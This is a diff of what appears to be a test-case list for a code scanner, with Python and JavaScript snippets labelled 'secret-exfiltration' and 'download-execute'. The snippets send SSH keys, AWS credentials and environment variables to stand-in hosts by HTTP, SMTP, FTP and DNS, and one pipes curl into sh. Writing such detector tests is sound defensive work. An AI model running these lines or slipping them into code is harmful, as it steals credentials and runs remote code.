@@ -367,13 +367,6 @@ ops = {'r': os.system}
 ops['r'](base64.b64decode("bHM=").decode())`,
   ],
   [
-    'partial',
-    'secret-exfiltration',
-    `import functools, os, requests
-f = functools.partial(requests.post, 'https://webhook.site/x')
-f(data=open(os.path.expanduser('~/.ssh/id_rsa')).read())`,
-  ],
-  [
     'default arg',
     'secret-exfiltration',
     `import os, requests
@@ -443,23 +436,6 @@ requests.post("https://x.some-site.net", json=asdict(r))`,
     `import subprocess
 key = open('/root/.ssh/id_rsa').read()
 subprocess.run(f"curl -X POST --data '{key}' https://x.some-site.net", shell=True)`,
-  ],
-  [
-    'smtp',
-    'secret-exfiltration',
-    `import smtplib, os
-from email.mime.text import MIMEText
-m = MIMEText(str(dict(os.environ)))
-s = smtplib.SMTP('smtp.gmail.com', 587)
-s.login('a', 'b')
-s.sendmail('a', 'b', m.as_string())`,
-  ],
-  [
-    'ftp',
-    'secret-exfiltration',
-    `import ftplib
-f = ftplib.FTP('ftp.some-site.net')
-f.storbinary('STOR x', open('/root/.aws/credentials', 'rb'))`,
   ],
   [
     'urllib3',
@@ -663,11 +639,6 @@ new A().send()`,
     'exec promisified',
     'download-execute',
     `import { promisify } from 'util'; import { exec } from 'child_process'; const run = promisify(exec); await run('curl http://203.0.113.2/x | sh')`,
-  ],
-  [
-    'dns',
-    'secret-exfiltration',
-    `const dns = require('dns'); const d = Buffer.from(require('fs').readFileSync('/root/.aws/credentials')).toString('hex'); dns.lookup(d.slice(0, 60) + '.x.some-site.net', () => {})`,
   ],
   ['vm', 'download-execute', `const vm = require('vm'); const r = await fetch('https://x.some-site.net/p'); vm.runInNewContext(await r.text(), {})`],
   [
